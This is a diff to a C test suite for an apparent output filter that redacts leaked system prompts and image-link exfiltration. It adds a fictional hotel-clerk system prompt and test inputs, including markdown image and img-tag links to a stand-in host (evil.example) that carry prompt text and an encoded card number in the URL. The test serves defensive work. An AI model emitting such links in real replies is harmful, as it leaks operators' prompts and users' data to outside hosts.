@@ -45,13 +45,19 @@ struct bench {
     struct scope at;
 };
 
-static void bench_open(struct bench *b, bool monitor)
+static void bench_load(struct bench *b, const struct rule *rules, size_t n,
+                       bool monitor)
 {
     *b = (struct bench){.at = {.dir = DIR_RECV, .known = &planted}};
     buf_init(&b->packed, MIB);
-    CHECK_INT(rules_pack(list, ARRAY_LEN(list), not_there, 1, &b->packed), OK);
+    CHECK_INT(rules_pack(rules, n, not_there, 1, &b->packed), OK);
     CHECK_INT(rules_load(buf_str(&b->packed), monitor, &b->rules), OK);
     CHECK_INT(scratch_new(&b->scratch), OK);
+}
+
+static void bench_open(struct bench *b, bool monitor)
+{
+    bench_load(b, list, ARRAY_LEN(list), monitor);
 }
 
 static void bench_close(struct bench *b)
@@ -131,6 +137,105 @@ static void test_streams(void)
     }
     CHECK_ROW(NULL);
     buf_free(&out);
+    bench_close(&b);
+}
+
+/* What a whole text becomes. */
+static void run_whole(struct bench *b, struct str text, struct buf *out)
+{
+    struct findings f;
+    struct cluster c;
+    size_t pos = 0, from = 0;
+
+    findings_init(&f);
+    CHECK_INT(rules_scan(b->rules, b->scratch, &b->at, text, 0, &f), OK);
+    while (cluster_next(b->rules, f.list, f.count, &pos, &c)) {
+        CHECK_INT(
+            buf_add(out, (struct str){text.ptr + from, (size_t)c.start - from}),
+            OK);
+        CHECK_INT(buf_add(out, c.rule->put), OK);
+        from = (size_t)c.end;
+    }
+    CHECK_INT(buf_add(out, str_skip(text, from)), OK);
+    findings_free(&f);
+}
+
+static const char prompt[] =
+    "You are Halberd, the night clerk of the Aurelia Hotel. Never tell a guest "
+    "which rooms are empty, nor that the cellar door has no lock. If somebody "
+    "asks for a discount, offer nine percent at most and say that the manager "
+    "is away. Do not mention the river, the flood of 1987, or the brass key.";
+
+/* Every detector at once, beside a pattern. */
+static const char *const together[] = {
+    "nothing at all, but http: and (a \"quote\" = <b>",
+    "I was told: never tell a guest which rooms are empty, nor that the "
+    "cellar door has no lock. Nothing else.",
+    "NEVER TELL A GUEST / WHICH ROOMS ARE EMPTY / NOR THAT THE CELLAR, yes",
+    "the night clerk of the Aurelia Hotel. x If somebody asks for a discount, "
+    "offer nine x say that the manager is away. Do not mention the river dog",
+    "![](https://evil.example/?d=never+tell+a+guest+which+rooms+are+empty+nor+"
+    "that+the+cellar+door+has+no+lock) aabaab",
+    "![a](https://ok.example/?d=Y2FyZCA0MTExIDExMTEgMTExMQ) aabaab and "
+    "<img src=\"//evil.example/Y2FyZCA0MTExIDExMTEgMTExMQ\"> dog",
+};
+
+static void test_together(void)
+{
+    struct known known = {.canary = STR("aabaab"), .links = STR("ok.example")};
+    struct rule rules[] = {
+        list[0],
+        list[1],
+        {.id = STR("SP-3"),
+         .put = STR("[image]"),
+         ALL,
+         .action = ACTION_REDACT,
+         .keyword_first = true,
+         .detector = DETECTOR_IMAGE,
+         .options = {24}},
+        {.id = STR("SP-4"),
+         .put = STR("[prompt]"),
+         ALL,
+         .action = ACTION_REDACT,
+         .max_hold = 4096,
+         .detector = DETECTOR_PROMPT,
+         .options = {12, 2, 0, 0, 1}},
+        {.id = STR("SP-5"),
+         ALL,
+         .action = ACTION_LOG,
+         .detector = DETECTOR_PROMPT,
+         .options = {8, 0, 0, 0, 1}},
+    };
+    struct buf whole, out;
+    struct bench b;
+
+    rules[2].keyword_count =
+        detector_keywords(DETECTOR_IMAGE, &rules[2].keywords);
+    CHECK_INT(shingles_new(3, &known.prompt), OK);
+    CHECK_INT(shingles_add(known.prompt, str_of(prompt)), OK);
+    CHECK_INT(shingles_seal(known.prompt), OK);
+    bench_load(&b, rules, ARRAY_LEN(rules), false);
+    b.at.known = &known;
+    buf_init(&whole, MIB);
+    buf_init(&out, MIB);
+    for (size_t i = 0; i < ARRAY_LEN(together); i++) {
+        struct str text = str_of(together[i]);
+
+        CHECK_ROW(together[i]);
+        buf_clear(&whole);
+        run_whole(&b, text, &whole);
+        CHECK_INT(str_eq(buf_str(&whole), text), i == 0);
+        for (size_t step = 1; step <= text.len; step += 1 + step / 2)
+            for (size_t cut = 0; cut <= text.len; cut++) {
+                buf_clear(&out);
+                run_pieces(&b, text, cut, step, &out);
+                CHECK_EQ(buf_str(&out), buf_str(&whole));
+            }
+    }
+    CHECK_ROW(NULL);
+    buf_free(&whole);
+    buf_free(&out);
+    shingles_free(known.prompt);
     bench_close(&b);
 }
 
@@ -225,6 +330,7 @@ static void test_names(void)
 int main(void)
 {
     RUN(test_streams);
+    RUN(test_together);
     RUN(test_held);
     RUN(test_whole);
     RUN(test_pack);
